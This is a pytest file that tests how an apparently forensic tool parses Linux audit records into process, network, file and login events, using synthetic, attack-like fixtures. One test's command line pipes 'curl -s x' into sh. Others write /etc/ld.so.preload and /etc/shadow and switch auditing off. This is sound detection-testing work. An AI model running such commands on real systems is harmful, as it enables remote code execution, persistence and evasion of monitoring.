"""Raw records of linux_audit, joined to events."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kubewitness.model.evidence import ParseFailure
from kubewitness.model.host import HostEvent
from kubewitness.sources.host import linux_audit
from kubewitness.sources.host.linux_audit_records import address_of
from kubewitness.sources.host.recognise import kind_of
from tests.corpus import CORPUS, needs_corpus
from tests.sources.host.reading import context, folder, lines
from tests.sources.host.reading import only as machine

CALL = (
    "arch=c000003e syscall={} success=yes exit={} a0=ffffff9c a1=7ffd a2={} a3=1b6 items=2 ppid=7 pid={} "
    'auid=4294967295 uid=0 gid=0 euid=0 suid=0 tty=(none) ses=4294967295 comm="x" exe="/usr/bin/x" key=(null)'
)


def encoded(text: str) -> str:
    """As the kernel writes what a program chose."""
    plain = all(0x21 <= ord(char) <= 0x7E and char != '"' for char in text)
    return f'"{text}"' if plain and text else text.encode().hex().upper()


def record(kind: str, body: str, serial: int = 1, second: float = 1783414661.335) -> str:
    return f"type={kind} msg=audit({second:.3f}:{serial}): {body}"


def call(number: int, *more: str, serial: int = 1, pid: int = 9, exit_: int = 0, a2: str = "0") -> list[str]:
    """The records of one call; `more` are "KIND body"."""
    parts = [("SYSCALL", CALL.format(number, exit_, a2, pid)), *((kind, body) for kind, _, body in _cut(more))]
    return [record(kind, body, serial) for kind, body in parts]


def _cut(more: tuple[str, ...]) -> list[tuple[str, str, str]]:
    return [text.partition(" ") for text in more]


def execution(argv: list[str], serial: int = 1, pid: int = 9) -> list[str]:
    words = " ".join(f"a{number}={encoded(word)}" for number, word in enumerate(argv))
    return call(
        59, f"EXECVE argc={len(argv)} {words}", 'CWD cwd="/root"', "PROCTITLE proctitle=78", serial=serial, pid=pid
    )


def read(*text: str) -> list[HostEvent]:
    facts = list(linux_audit.read(lines("\n".join(text)), context()))
    assert not [fact for fact in facts if isinstance(fact, ParseFailure)]
    return [fact for fact in facts if isinstance(fact, HostEvent)]


def only(*text: str) -> HostEvent:
    [event] = read(*text)
    return event


def brief(event: HostEvent) -> tuple[object, ...]:
    return (event.category, event.time, event.command, event.path, event.address, tuple(event.fields.items()))


words = st.text(st.characters(codec="utf-8", exclude_characters="\0"), min_size=1, max_size=30)


@given(st.lists(words, min_size=1, max_size=6))
@settings(max_examples=60, deadline=None)
def test_any_words_of_a_command_line_come_back(argv: list[str]) -> None:
    event = only(*execution(argv))
    assert (event.category, event.argv) == ("process_creation", tuple(argv))
    assert event.command == " ".join(argv)


@given(st.integers(min_value=2, max_value=6), st.randoms(use_true_random=False))
@settings(max_examples=40, deadline=None)
def test_records_of_several_events_may_lie_between_each_other(count: int, random: object) -> None:
    queues = [
        execution([f"run{number}"], number)
        if number % 2
        else call(42, "SOCKADDR saddr=020001BBCB007121", "PROCTITLE proctitle=78", serial=number)
        for number in range(1, count + 1)
    ]
    apart = [line for queue in queues for line in queue]
    mixed = list[str]()
    while any(queues):
        mixed.append(random.choice([queue for queue in queues if queue]).pop(0))  # type: ignore[attr-defined]
    assert sorted(map(brief, read(*mixed))) == sorted(map(brief, read(*apart)))


def test_an_execution_says_who_ran_what_where() -> None:
    event = only(*execution(["/bin/sh", "-c", "curl -s x | sh"]))
    assert (event.pid, event.ppid, event.user, event.image, event.cwd) == (9, 7, "0", "/usr/bin/x", "/root")
    assert event.time == "2026-07-07T08:57:41.335000Z"
    assert (event.fields["SYSCALL"], event.fields["a1"]) == ("execve", "-c")
    assert (event.fields["type"], event.fields["types"]) == ("SYSCALL", "SYSCALL,EXECVE,CWD,PROCTITLE")


def test_executions_that_differ_in_process_numbers_alone_are_counted_after_the_first_ones() -> None:
    text = [line for number in range(1, 26) for line in execution(["runc", "init"], number, 1000 + number)]
    events = read(*text)
    assert [event.count for event in events] == [1] * 20 + [5]
    assert {event.argv for event in events} == {("runc", "init")}
    assert [event.pid for event in events[:20]] == list(range(1001, 1021))


def test_the_parent_is_what_its_number_last_executed() -> None:
    text = [*execution(["sh"], 1, 7), *execution(["nginx", "-g"], 2, 7), *execution(["id"], 3, 9)]
    assert [event.parent_command for event in read(*text) if event.pid == 9] == ["nginx -g"]
    [event] = [
        event for event in read(*text, record("SYSTEM_BOOT", "pid=1", 4), *execution(["w"], 5)) if event.argv == ("w",)
    ]
    assert event.parent_image == ""


def test_a_long_word_comes_in_pieces_and_records() -> None:
    event = only(
        *call(59, 'EXECVE argc=3 a0="sh" a1="-c" a2_len=12 a2[0]=6563686F20', 'EXECVE a2[1]="abc" a2[2]=20E4BDA0')
    )
    assert event.argv == ("sh", "-c", "echo abc 你")


def test_a_position_of_a_million_costs_no_memory() -> None:
    assert only(*call(59, 'EXECVE argc=2 a0="x" a9999999="y"')).argv == ("x", "y")


def test_without_execve_the_line_is_what_the_process_wrote_of_itself_and_marked() -> None:
    event = only(*call(59, "PROCTITLE proctitle=" + b"[kworker/0:1]\0-x".hex().upper()))
    assert (event.command, event.argv) == ("[kworker/0:1] -x", ())
    assert event.fields["proctitle"] == event.command
    assert "proctitle" not in only(*execution(["x"])).fields


def test_an_execution_that_failed_created_no_process() -> None:
    text = [
        line.replace("success=yes", "success=no") for line in call(59, 'PATH item=0 name="/tmp/x" nametype=UNKNOWN')
    ]
    event = only(*text)
    assert (event.category, event.succeeded, event.path) == ("record", False, "/tmp/x")


@pytest.mark.parametrize(
    ("saddr", "expected"),
    [
        ("02000D05CB0071210000000000000000", {"saddr_fam": "inet", "laddr": "203.0.113.33", "lport": "3333"}),
        (
            "0A0001BB0000000020010DB8000000000000000000000001" + "00000000",
            {"saddr_fam": "inet6", "laddr": "2001:db8::1", "lport": "443"},
        ),
        (
            "0A0001BB0000000000000000000000000000FFFFCB007121" + "00000000",
            {"saddr_fam": "inet6", "laddr": "203.0.113.33", "lport": "443"},
        ),
        ("0100" + b"/run/containerd.sock\0junk".hex().upper(), {"saddr_fam": "local", "path": "/run/containerd.sock"}),
        ("0100" + b"\0abstract".hex().upper(), {"saddr_fam": "local", "path": "@abstract"}),
        ("10000000", {"saddr_fam": "netlink"}),
        ("0200", {"saddr_fam": "2"}),
        ("02", {"saddr_fam": "2"}),
        ("xyz", {}),
    ],
)
def test_an_address_is_decoded(saddr: str, expected: dict[str, str]) -> None:
    assert address_of(saddr) == expected


def test_a_connection_has_the_other_side_and_is_not_failed_while_in_progress() -> None:
    event = only(
        *(line.replace("success=yes", "success=no") for line in call(42, "SOCKADDR saddr=02000D05CB007121", exit_=-115))
    )
    assert (event.category, event.address, event.port) == ("network_connection", "203.0.113.33", 3333)
    assert event.succeeded is None
    refused = only(
        *(line.replace("success=yes", "success=no") for line in call(42, "SOCKADDR saddr=02000D05CB007121", exit_=-111))
    )
    assert (refused.category, refused.succeeded) == ("network_connection", False)
    [words_of_auditd] = read(
        record("SYSCALL", CALL.format(42, 0, 0, 9)),
        record("SOCKADDR", "saddr=00\x1dSADDR={ saddr_fam=inet laddr=192.0.2.7 lport=80 }"),
    )
    assert (words_of_auditd.address, words_of_auditd.port) == ("192.0.2.7", 80)


def test_a_local_socket_is_a_record_with_its_path() -> None:
    event = only(*call(42, "SOCKADDR saddr=0100" + b"/run/docker.sock\0".hex().upper()))
    assert (event.category, event.path, event.address) == ("record", "/run/docker.sock", "")


CREATED = (
    'CWD cwd="/etc"',
    'PATH item=0 name="/etc/" inode=1 nametype=PARENT',
    'PATH item=1 name="ld.so.preload" inode=2 mode=0100644 nametype=CREATE',
)


def test_a_file_that_was_made_is_named_in_full() -> None:
    event = only(*call(257, *CREATED, a2="241"))
    assert (event.category, event.path, event.fields["name"]) == (
        "file_event",
        "/etc/ld.so.preload",
        "/etc/ld.so.preload",
    )
    assert (event.fields["nametype"], "inode" in event.fields) == ("CREATE", False)


def test_a_rename_is_two_files() -> None:
    text = call(82, 'CWD cwd="/tmp"', 'PATH item=2 name="a" nametype=DELETE', 'PATH item=3 name="/b" nametype=CREATE')
    assert [event.path for event in read(*text)] == ["/tmp/a", "/b"]


@pytest.mark.parametrize(
    ("flags", "category"),
    [("0", "record"), ("80000", "record"), ("1", "file_event"), ("42", "file_event"), ("zz", "record")],
)
def test_an_open_counts_if_its_flags_allow_writing(flags: str, category: str) -> None:
    event = only(*call(257, 'PATH item=0 name="/etc/shadow" nametype=NORMAL', a2=flags))
    assert (event.category, event.path) == (category, "/etc/shadow")


def test_a_name_relative_to_a_folder_that_is_not_told_stays_relative() -> None:
    text = [
        line.replace("ffffff9c", "5") for line in call(257, 'CWD cwd="/root"', 'PATH name="x" nametype=NORMAL', a2="1")
    ]
    assert only(*text).path == "x"


LOGIN = (
    'pid=21 uid=0 auid=4294967295 ses=1 msg=\'op=login acct="root" exe="{}" hostname=? addr=198.51.100.4 '
    'terminal=ssh res={}\'\x1dUID="root" AUID="unset"'
)


@pytest.mark.parametrize(
    ("kind", "exe", "category"),
    [
        ("USER_LOGIN", "/usr/sbin/sshd", "login"),
        ("USER_AUTH", "/usr/bin/su", "login"),
        ("USER_START", "/usr/sbin/sshd", "login"),
        ("USER_START", "/usr/sbin/crond", "record"),
        ("USER_START", "/usr/lib/systemd/systemd", "record"),
        ("USER_END", "/usr/sbin/sshd", "record"),
    ],
)
def test_a_login_is_one_by_a_person(kind: str, exe: str, category: str) -> None:
    event = only(record(kind, LOGIN.format(exe, "failed")))
    assert (event.category, event.user, event.address, event.succeeded) == (category, "root", "198.51.100.4", False)


def test_what_the_kernel_says_of_the_sender_wins_over_what_the_sender_says() -> None:
    event = only(record("USER_CMD", "pid=21 uid=1000 auid=1000 msg='cwd=\"/\" uid=0 pid=1 cmd=6964202D75 res=success'"))
    assert (event.pid, event.user, event.command) == (21, "1000", "id -u")


def test_a_service_that_stopped_keeps_the_names_rules_ask_for() -> None:
    event = only(
        record(
            "SERVICE_STOP",
            'pid=1 uid=0 msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" res=success\'',
        )
    )
    assert {"type": "SERVICE_STOP", "unit": "firewalld", "res": "success"}.items() <= event.fields.items()
    assert event.message == "SERVICE_STOP unit=firewalld exe=/usr/lib/systemd/systemd comm=systemd res=success"


def test_a_record_beside_a_call_is_told_with_it() -> None:
    text = [record("NETFILTER_CFG", "table=filter:12 family=2 entries=7 op=nft_unregister_rule"), *call(46)]
    event = only(*text)
    assert (event.category, event.fields["type"], event.fields["table"]) == ("record", "NETFILTER_CFG", "filter")
    assert event.image == "/usr/bin/x"


@pytest.mark.parametrize(
    "line",
    [
        "node=n1 type=SYSCALL msg=audit(1783414661.335:1): arch=c000003e syscall=101 success=yes pid=9 comm=\"x\"",
        "Jul  7 08:57:41 n1 kernel: audit: type=1300 audit(1783414661.335:1): arch=c000003e syscall=101 pid=9",
        "Jul  7 08:57:41 n1 kernel: [ 12.5] audit: type=1300 audit(1783414661.335:1): arch=c000003e syscall=101 pid=9",
        "[   12.500000] audit: type=1300 audit(1783414661.335:1): arch=c000003e syscall=101 success=yes pid=9",
        "2026-07-07T08:57:41Z n1 audispd: type=SYSCALL msg=audit(1783414661.335:1): arch=c000003e syscall=101 pid=9",
        "2026-07-07T08:57:41.335000+00:00 n1 audit[9]: SYSCALL arch=c000003e syscall=101 success=yes pid=9 comm=\"x\"",
    ],
)  # fmt: skip
def test_a_record_is_read_behind_whatever_prefix(line: str) -> None:
    event = only(line)
    assert (event.fields["SYSCALL"], event.pid, event.time) == ("ptrace", 9, "2026-07-07T08:57:41.335000Z")
    assert kind_of("x", line.encode()) == "linux_audit log"


def test_records_of_journald_are_joined_in_their_order() -> None:
    prefix = "2026-07-07T08:57:41.335000+00:00 n1 audit"
    text = list[str]()
    for line in execution(["id", "-u"]) + execution(["w"]):
        kind, _, body = line.removeprefix("type=").split(" ", 2)
        text.append(f"{prefix}[9]: {kind} {body}" if kind == "SYSCALL" else f"{prefix}: {kind} {body}")
    assert [event.argv for event in read(*text)] == [("id", "-u"), ("w",)]


def test_what_auditd_added_is_read_though_the_copy_lost_the_separator() -> None:
    event = only(record("SYSCALL", CALL.format(59, 0, 0, 9) + 'ARCH=x86_64 SYSCALL=execve UID="root"'))
    assert (event.user, "key" in event.fields) == ("root", False)


def test_several_keys_are_told_apart_by_a_comma() -> None:
    text = record("SYSCALL", CALL.format(101, 0, 0, 9).replace("(null)", b"one\1two".hex().upper()))
    assert only(text).fields["key"] == "one,two"


def test_an_event_is_complete_when_time_has_gone_on() -> None:
    text = [record("SYSCALL", CALL.format(42, 0, 0, 9)), record("SYSCALL", CALL.format(101, 0, 0, 9), 2, 1783414671),
            record("SOCKADDR", "saddr=02000D05CB007121")]  # fmt: skip
    assert [event.fields["type"] for event in read(*text)] == ["SYSCALL", "SOCKADDR", "SYSCALL"]


def test_events_that_never_end_are_bounded() -> None:
    joining = linux_audit.Joining(context())
    for number in range(3000):
        [(place, line)] = lines(record("SYSCALL", CALL.format(101, 0, 0, 9), number))
        assert joining.take(place, line)
    assert len(joining.done) == 2000


def test_a_line_that_is_no_record_is_a_failure_and_costs_no_other() -> None:
    text = "\n".join(["type=SYSCALL msg=audit(): x", *execution(["id"]), "type= msg=audit(1.1:1): x=1"])
    facts = list(linux_audit.read(lines(text), context()))
    assert [fact.place.line for fact in facts if isinstance(fact, ParseFailure)] == [1, 6]
    assert [fact.argv for fact in facts if isinstance(fact, HostEvent)] == [("id",)]


@given(st.text(st.sampled_from("a0=\"'{}()[]\x1d \0x\x7f1F,:"), max_size=200))
@settings(max_examples=100, deadline=None)
def test_no_text_of_a_record_breaks_the_reader(body: str) -> None:
    for kind in ("SYSCALL", "EXECVE", "PATH", "SOCKADDR", "USER_LOGIN", "AVC", "LOGIN"):
        assert len(read(record(kind, body.replace("\n", "")))) <= 2


def test_a_record_inside_a_shippers_object_is_read() -> None:
    text = [json.dumps({"hostname": "n1", "log_type": "audit", "message": line}) for line in execution(["id"])]
    assert only(*text).argv == ("id",)
    assert kind_of("x", "\n".join(text).encode()) == "linux_audit log"


@pytest.mark.parametrize(
    "text",
    [
        '{"message":"see audit(1.1:1): x"}',
        '{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"1"}',
        "Jul  7 08:57:41 n1 sshd[7]: Accepted publickey for root from 198.51.100.4 port 1 ssh2",
        "type=message msg=hello",
        "I0707 08:57:41.335 1 audit.go:1] type=SYSCALL",
        "audit rules are kept in /etc/audit",
    ],
)
def test_what_is_no_audit_is_not_claimed(text: str) -> None:
    assert kind_of("x.log", text.encode()) != "linux_audit log"


def notes(*text: str) -> list[str]:
    told = context()
    list(linux_audit.read(lines("\n".join(text)), told))
    return [note.reason for note in told.notes]


OFF = "auid=0 ses=1 op=set audit_enabled=0 old=1 res=1"


def test_an_interruption_is_told_with_its_length() -> None:
    [note] = notes(record("CONFIG_CHANGE", OFF), record("USER_LOGIN", "pid=1", 2, 1783418261))
    assert note == (
        "linux_audit was switched off (audit_enabled=0) at 2026-07-07T08:57:41.335000Z; "
        "the next record is of 2026-07-07T09:57:41.000000Z"
    )
    [note] = notes(record("DAEMON_END", "op=terminate auid=0 pid=1 res=success"))
    assert note.endswith("nothing in this log is later")


def test_a_restart_is_no_interruption() -> None:
    assert not notes(
        record("DAEMON_END", "op=terminate res=success"),
        record("DAEMON_START", "op=start ver=3.0 res=success", 2, 1783414663),
        record("CONFIG_CHANGE", "op=set audit_enabled=1 old=1 res=1", 3, 1783414663),
        record("CONFIG_CHANGE", 'op=add_rule key="x" list=4 res=1', 4, 1783414663),
    )


def test_what_the_kernel_dropped_is_told() -> None:
    prefix = "Jul  7 08:57:41 n1 kernel: "
    [note] = notes(
        f"{prefix}audit: type=1300 audit(1783414661.335:1): arch=c000003e syscall=101 pid=9",
        f"{prefix}audit: audit_backlog=65 > audit_backlog_limit=64",
        f"{prefix}audit: audit_lost=12 audit_rate_limit=0 audit_backlog_limit=64",
        f"{prefix}audit: backlog limit exceeded",
    )
    assert note == "the kernel dropped linux_audit records it could not hand on (12 in all, as it counts)"


def test_a_log_in_a_copied_file_system_is_the_machines(tmp_path: Path) -> None:
    text = "\n".join([*execution(["id"], 1), *execution(["id"], 2)])
    host = machine(folder(tmp_path, {"n1/var/log/audit/audit.log": text, "n1/etc/hostname": "n1\n"}))
    assert (host.name, [(event.command, event.count) for event in host.events]) == ("n1", [("id", 1), ("id", 1)])
    assert "linux_audit log" in host.sources.values()


@needs_corpus
def test_real_logs_are_read_whole() -> None:
    assert CORPUS
    text = (CORPUS / "log2timeline__plaso/test_data/audit_enriched.log").read_text()
    events = read(text.rstrip("\n"))
    assert kind_of("audit.log", text.encode()) == "linux_audit log"
    assert [event.argv for event in events if event.category == "process_creation"] == [
        ("id",),
        ("/bin/sh", "-c", "grep -c . /etc/hostname"),
        ("/usr/bin/cat", "/tmp/my report.txt"),
    ]
    assert [event.message.split()[0] for event in events if event.category == "login"] == ["USER_AUTH", "USER_START"]
    [runc] = read((CORPUS / "openshift__cluster-logging-operator/hack/logsamples/raw_auditd.log").read_text())
    assert runc.fields["proctitle"].startswith("/usr/bin/runc --systemd-cgroup")


@needs_corpus
def test_odd_records_of_old_systems_are_read() -> None:
    assert CORPUS
    text = (CORPUS / "log2timeline__plaso/test_data/selinux.log").read_text()
    facts = list(linux_audit.read(lines(text), context()))
    assert len([fact for fact in facts if isinstance(fact, ParseFailure)]) == 4
    events = {fact.fields["type"]: fact for fact in facts if isinstance(fact, HostEvent)}
    assert events["AVC"].fields["avc"] == "denied getattr"
    assert events["LOGIN"].fields["old-auid"] == "4294967295"
    assert "MMAP" in events


NOTES = ["What the colleague on call wrote down", "root@node1:~# cat /var/log/audit/audit.log"] * 40


@pytest.mark.parametrize(
    ("others", "records", "kind"),
    [
        (NOTES, 6, "linux_audit log"),
        (NOTES, 4, ""),
        (
            ["Nov 22 03:59:12 node1 sshd[812]: Accepted password for root from 192.0.2.1 port 9 ssh2"] * 80,
            6,
            "system log",
        ),
        (['{"level":"info","msg":"x"}'] * 80, 6, ""),
    ],
)
def test_a_few_records_among_foreign_lines_are_a_log_of_linux_audit_unless_it_is_somebody_elses(
    others: list[str], records: int, kind: str
) -> None:
    text = "\n".join([*others, *execution(["id"])[:1] * records])
    assert kind_of("folder/notes", text.encode()) == kind


def test_foreign_lines_cost_no_record_and_are_counted(tmp_path: Path) -> None:
    text = "\n".join([*NOTES, *(line for serial in range(1, 6) for line in execution(["id"], serial=serial))])
    evidence = folder(tmp_path, {"n/audit.log": text})
    assert sum(event.count for event in machine(evidence).events if event.command == "id") == 5
    assert [failure.reason for failure in evidence.failures][-1] == "60 more lines that could not be read"
